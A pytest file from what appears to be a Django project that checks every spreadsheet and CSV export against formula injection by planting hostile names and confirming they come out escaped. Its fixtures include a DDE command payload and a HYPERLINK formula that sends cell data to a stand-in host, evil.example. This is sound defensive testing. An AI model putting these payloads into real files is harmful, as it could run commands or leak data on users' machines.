"""No formula in any spreadsheet or CSV Orienta writes (CSV/formula injection).

Names typed by users (organisations, services, persons, payment references) reach provider
statements, the beneficiaries export and the HSDS exchange. Every export the code can produce is
made here with hostile names in the data, opened as a spreadsheet program would, and every cell
checked; a module that writes XLSX or CSV without `orienta.lib.tabular` fails the suite, and so
does a new export that this scan does not make.
"""

import ast
import csv
import io
import re
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from orienta.lib.tabular import FORMULA_START, Sheet, csv_writer, neutralise, restore

ROOT = Path(__file__).resolve().parents[3]

ORG_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Centre")'
SERVICE_NAME = "+cmd|' /C calc'!A0"
GIVEN = "@SUM(1+1)"
FAMILY = "-2+3"
RECEIPT = "=1+1"
PHONE = "+235 66 00 00 09"
CONTACT = "@contact"
LOCATION = "-Quartier"
OPTION = "=Fee"


# The helper
# =============================================================================================


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1"])
def test_text_that_starts_a_formula_gets_an_apostrophe_and_comes_back(text):
    written = neutralise(text)
    assert written == "'" + text
    assert restore(written) == text


@pytest.mark.parametrize("text", ["Achta", "", "'", "'quoted'", "1-2", "a=b", "'abc"])
def test_other_text_is_written_and_read_as_it_is(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("value", [-5, Decimal("-1500.00"), 2.5, True, None])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value


def test_an_xlsx_cell_is_never_a_formula_and_a_negative_amount_stays_a_number():
    sheet = Sheet(title="Q1/2025: [test]")
    sheet.append(["=1+1", "-3", -3, Decimal("-2.50"), "ok\x0b"], bold=True)
    cells = list(load_workbook(io.BytesIO(sheet.to_bytes())).active.iter_rows())[0]
    assert [c.value for c in cells] == ["'=1+1", "'-3", -3, -2.5, "ok"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s"]


def test_a_csv_cell_is_neutralised():
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["=1+1", -3, "x", None])
    assert out.getvalue() == "'=1+1,-3,x,\n"


# Every export, with hostile names in the data
# =============================================================================================


def _hostile_directory(world):
    """The provider and one of its services, with names that would be formulas."""
    from orienta.core.models import Organisation
    from orienta.directory.services import contact_add, location_create, service_at_location_add
    from orienta.directory.tests.factories import make_service

    Organisation.objects.filter(pk=world["provider_org"].pk).update(name=ORG_NAME, phone=PHONE)
    provider = Organisation.objects.get(pk=world["provider_org"].pk)
    service = make_service(provider, name=SERVICE_NAME, amount=1500, currency="XAF")
    service.cost_options.update(option=OPTION)
    contact_add(by=None, service=service, data={"name": CONTACT, "phone": PHONE})
    location = location_create(
        by=None, organisation=provider, data={"name": LOCATION, "country_code": "TD"}
    )
    service_at_location_add(by=None, service=service, location=location)
    return provider, service


def _hostile_world(world, users, persons):
    """The directory above, and a person with such names paid for from the fund by a receipt
    with such a number."""
    from orienta.fund import services
    from orienta.fund.tests.factories import make_fund, make_fund_request
    from orienta.people.models import Person

    provider, service = _hostile_directory(world)
    person = persons["person_td"]
    Person.objects.filter(pk=person.pk).update(given_name=GIVEN, family_name=FAMILY)
    person.refresh_from_db()
    _fund, period = make_fund(
        world["td"], coordinator=users["coordinator_td"], allocations=[(world["sites"]["td"], 9000)]
    )
    req = make_fund_request(person, users["agent_td"], amount=1500, service=service)
    services.request_approve(fund_request=req, by=users["manager_td"])
    services.payment_record(
        fund_request=req,
        by=users["manager_td"],
        data=services.PaymentInput(method="cash", receipt_number=RECEIPT),
    )
    return {"provider": provider, "period": period}


def _statement_xlsx(login, users, made) -> list[bytes]:
    url = f"/fund/statements/{made['provider'].pk}/{made['period'].pk}/?format=xlsx"
    response = login(users["coordinator_td"]).get(url)
    assert response.status_code == 200
    return [response.content]


def _beneficiaries_xlsx(login, users, made) -> list[bytes]:
    from orienta.accounts.reauth import REAUTH_SESSION_KEY
    from orienta.audit.models import Export

    client = login(users["manager_td"])
    session = client.session
    session[REAUTH_SESSION_KEY] = int(time.time())
    session.save()
    done = client.post(
        "/fund/export/", {"period": str(made["period"].pk), "reason": "Rapport au bailleur"}
    )
    assert done.status_code == 302
    download = client.get(f"/exports/{Export.objects.get().pk}/download/")
    assert download.status_code == 200
    return [b"".join(download.streaming_content) if download.streaming else download.content]


def _hsds_csv(login, users, made) -> list[bytes]:
    response = login(users["me_hq"]).get("/directory/exchange/hsds.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return [archive.read(name) for name in archive.namelist() if name.endswith(".csv")]


def _results(ext):
    def make(login, users, made) -> list[bytes]:
        response = login(users["coordinator_td"]).get(f"/results/export.{ext}?period=2026")
        assert response.status_code == 200
        return [response.content]

    return make


def _assessments_xlsx(login, users, made) -> list[bytes]:
    """The families' assessments, as the site manager exports them (with the heads' names)."""
    from orienta.accounts.reauth import REAUTH_SESSION_KEY
    from orienta.audit.models import Export
    from orienta.families.services import assessment_record
    from orienta.families.tests.factories import WORST, make_household, make_instrument
    from orienta.people.models import Person

    person = Person.objects.get(given_name=GIVEN)
    instrument = make_instrument(person.site.country, users["me_hq"])
    household = make_household(person, users["agent_td"])
    assessment_record(
        household=household, instrument=instrument, answers=WORST, by=users["agent_td"]
    )
    client = login(users["manager_td"])
    session = client.session
    session[REAUTH_SESSION_KEY] = int(time.time())
    session.save()
    done = client.post("/families/export/", {"reason": "Revue des familles du site"})
    assert done.status_code == 302
    export = Export.objects.order_by("-created_at").first()
    download = client.get(f"/exports/{export.pk}/download/")
    assert download.status_code == 200
    return [b"".join(download.streaming_content) if download.streaming else download.content]


def _outreach_xlsx(login, users, made) -> list[bytes]:
    from orienta.outreach.tests.factories import make_session

    make_session(users["agent_td"], users["agent_td"].sites.get(), title=SERVICE_NAME)
    response = login(users["coordinator_td"]).get("/outreach/export.xlsx?month=2026-03")
    assert response.status_code == 200
    return [response.content]


def _gtps_xlsx(login, users, made) -> list[bytes]:
    from orienta.networks.tests.factories import make_action, make_group

    group, _member, _contact = make_group(
        users["coordinator_td"], users["coordinator_td"].country, made["provider"]
    )
    make_action(users["coordinator_td"], group, title=SERVICE_NAME)
    response = login(users["coordinator_td"]).get("/gtps/export.xlsx")
    assert response.status_code == 200
    return [response.content]


def _partners_xlsx(login, users, made) -> list[bytes]:
    from orienta.partners.tests.factories import make_records

    if "partners" in made:  # the three exports are made once
        return made["partners"]
    organisation = users["cso_td"].organisation
    organisation.name = SERVICE_NAME
    organisation.save(update_fields=["name"])
    from orienta.partners.services import contact_add

    make_records(organisation, users["coordinator_td"])
    contact_add(organisation=organisation, name=CONTACT, phone=PHONE, by=users["coordinator_td"])
    client = login(users["coordinator_td"])
    files = []
    for kind in ("csos", "assessments", "grants", "applications", "actions"):
        response = client.get(f"/partners/export/{kind}.xlsx")
        assert response.status_code == 200, kind
        files.append(response.content)
    made["partners"] = files
    return files


def _resources_xlsx(login, users, made) -> list[bytes]:
    from orienta.networks.services import support_participant_add
    from orienta.networks.tests.factories import make_document, make_support

    by = users["coordinator_td"]
    organisation = users["cso_td"].organisation
    make_document(by, by.country, title=ORG_NAME)
    support = make_support(by, by.country, [organisation], topic=SERVICE_NAME)
    support_participant_add(
        support=support, name=GIVEN, sex="male", organisation=organisation, position=FAMILY, by=by
    )
    response = login(by).get("/resources/export.xlsx")
    assert response.status_code == 200
    return [response.content]


def _study_xlsx(login, users, made) -> list[bytes]:
    from orienta.core.models import Area
    from orienta.networks.tests.factories import make_study

    by = users["coordinator_td"]
    area = Area.objects.filter(country=by.country).first()
    study = make_study(by, by.country, area)
    study.title = SERVICE_NAME
    study.save(update_fields=["title"])
    response = login(by).get(f"/diagnostics/{study.pk}/tables.xlsx")
    assert response.status_code == 200
    return [response.content]


# Every function that writes a spreadsheet or CSV (found in the source below), and how this test
# makes the file it writes.
EXPORTS = {
    "orienta.fund.reports.statement_xlsx": ("xlsx", _statement_xlsx),
    "orienta.fund.reports.beneficiaries_xlsx": ("xlsx", _beneficiaries_xlsx),
    "orienta.directory.exchange.export_zip": ("csv", _hsds_csv),
    "orienta.reporting.exports.table_xlsx": ("xlsx", _results("xlsx")),
    "orienta.reporting.exports.table_csv": ("csv", _results("csv")),
    "orienta.families.exports.assessments_xlsx": ("xlsx", _assessments_xlsx),
    "orienta.outreach.exports.activities_xlsx": ("xlsx", _outreach_xlsx),
    "orienta.networks.exports.gtps_xlsx": ("xlsx", _gtps_xlsx),
    "orienta.partners.exports.csos_xlsx": ("xlsx", _partners_xlsx),
    "orienta.partners.exports.assessments_xlsx": ("xlsx", _partners_xlsx),
    "orienta.partners.exports.grants_xlsx": ("xlsx", _partners_xlsx),
    "orienta.partners.exports.applications_xlsx": ("xlsx", _partners_xlsx),
    "orienta.partners.exports.actions_xlsx": ("xlsx", _partners_xlsx),
    "orienta.networks.exports.resources_xlsx": ("xlsx", _resources_xlsx),
    "orienta.networks.exports.study_xlsx": ("xlsx", _study_xlsx),
}


def _xlsx_cells(raw: bytes):
    book = load_workbook(io.BytesIO(raw))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _csv_cells(raw: bytes):
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))):
        yield from row


def test_no_export_holds_a_formula(login, world, users, persons, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    made = _hostile_world(world, users, persons)
    escaped = {"'" + v for v in (ORG_NAME, SERVICE_NAME, RECEIPT, PHONE, CONTACT, LOCATION)}
    seen: set[str] = set()
    for name, (kind, make) in EXPORTS.items():
        for raw in make(login, users, made):
            if kind == "xlsx":
                cells = list(_xlsx_cells(raw))
                assert not [c.coordinate for c in cells if c.data_type == "f"], name
                values = [c.value for c in cells]
            else:
                values = list(_csv_cells(raw))
            texts = [v for v in values if isinstance(v, str)]
            live = [v for v in texts if v.startswith(FORMULA_START)]
            assert not live, (name, live)
            seen |= {v for v in texts if v.startswith("'")}
            seen |= {v for v in texts if any(v.startswith("'" + h) for h in (GIVEN, OPTION))}
    # The hostile names did reach the files, written as text.
    assert escaped <= seen, escaped - seen
    assert any(v.startswith("'" + GIVEN) for v in seen)  # the person, in the beneficiaries
    assert "'" + OPTION in seen  # the cost option, in the HSDS package


def test_the_hsds_package_still_round_trips_with_hostile_names(world, users):
    from orienta.directory import exchange
    from orienta.directory.models import Service

    _hostile_directory(world)
    first = exchange.export_zip(Service.objects.all())
    _wipe_directory()
    exchange.import_zip(first, by=users["me_hq"])
    imported = Service.objects.get(name=SERVICE_NAME)
    assert imported.organisation.name == ORG_NAME
    assert imported.contacts.get().name == CONTACT
    second = exchange.export_zip(Service.objects.all())
    one, two = zipfile.ZipFile(io.BytesIO(first)), zipfile.ZipFile(io.BytesIO(second))
    for name in one.namelist():
        assert one.read(name) == two.read(name), name


def _wipe_directory():
    from orienta.directory.models import Location, OrganisationProfile, Service

    Service.objects.all().delete()
    Location.objects.all().delete()
    OrganisationProfile.objects.all().delete()


# Every writer goes through the helper, and every writer is scanned above
# =============================================================================================

FORBIDDEN = re.compile(
    r"\bcsv\.(writer|DictWriter)\s*\(|from\s+csv\s+import|\bopenpyxl\b|\bxlsxwriter\b"
    r"|\bWorkbook\s*\("
)


def _sources():
    for path in sorted((ROOT / "orienta").rglob("*.py")):
        rel = path.relative_to(ROOT)
        if "tests" in rel.parts or "migrations" in rel.parts or rel.name == "tabular.py":
            continue
        yield rel, path.read_text()


def test_no_module_writes_a_spreadsheet_or_csv_without_the_helper():
    offenders = [
        f"{rel}:{n}: {line.strip()}"
        for rel, text in _sources()
        for n, line in enumerate(text.splitlines(), 1)
        if FORBIDDEN.search(line)
    ]
    assert not offenders, "write spreadsheets and CSV with orienta.lib.tabular:\n" + "\n".join(
        offenders
    )


def _writers() -> set[str]:
    """module.function of every function that makes a Sheet or a csv_writer."""
    found = set()
    for rel, text in _sources():
        module = ".".join(rel.with_suffix("").parts)
        for node in ast.walk(ast.parse(text)):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for call in ast.walk(node):
                if isinstance(call, ast.Call):
                    func = call.func
                    called = (
                        func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                    )
                    if called in ("Sheet", "csv_writer", "CsvWriter"):
                        found.add(f"{module}.{node.name}")
    return found


def test_every_export_is_scanned_for_formulas():
    assert _writers() == set(EXPORTS), "add the new export to EXPORTS in this test"
